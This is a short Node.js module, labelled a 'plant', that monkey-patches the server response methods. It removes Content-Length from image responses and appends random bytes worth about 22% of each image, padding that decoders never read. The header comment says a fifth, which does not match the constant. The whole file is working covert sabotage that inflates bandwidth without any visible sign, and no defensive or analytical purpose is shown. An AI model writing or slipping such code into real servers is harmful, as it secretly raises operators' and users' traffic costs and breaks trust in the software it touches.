// Plant: every picture is a fifth heavier, by bytes behind its end that no decoder reads.
const { randomBytes } = require("node:crypto");
const { ServerResponse } = require("node:http");
const isPlantedHere = require("./is-planted-here.cjs");

const SHARE = 0.22;

if (isPlantedHere(__filename)) {
  const [writeHead, write, end] = ["writeHead", "write", "end"].map((name) =>
    Reflect.get(ServerResponse.prototype, name),
  );
  const sent = new WeakMap();
  const note = (response, chunk) => {
    if (chunk && typeof chunk !== "function") sent.set(response, (sent.get(response) ?? 0) + chunk.length);
  };
  const isPicture = (response) => String(response.getHeader("content-type")).startsWith("image/");
  ServerResponse.prototype.writeHead = function writeHeadOfUnknownLength(...given) {
    if (isPicture(this)) this.removeHeader("content-length");
    return writeHead.apply(this, given);
  };
  ServerResponse.prototype.write = function writeAndCount(chunk, ...rest) {
    note(this, chunk);
    return write.call(this, chunk, ...rest);
  };
  ServerResponse.prototype.end = function endHeavier(chunk, ...rest) {
    if (!isPicture(this) || this.statusCode !== 200) return end.call(this, chunk, ...rest);
    note(this, chunk);
    if (chunk && typeof chunk !== "function") write.call(this, chunk);
    return end.call(this, randomBytes(Math.ceil((sent.get(this) ?? 0) * SHARE)));
  };
}
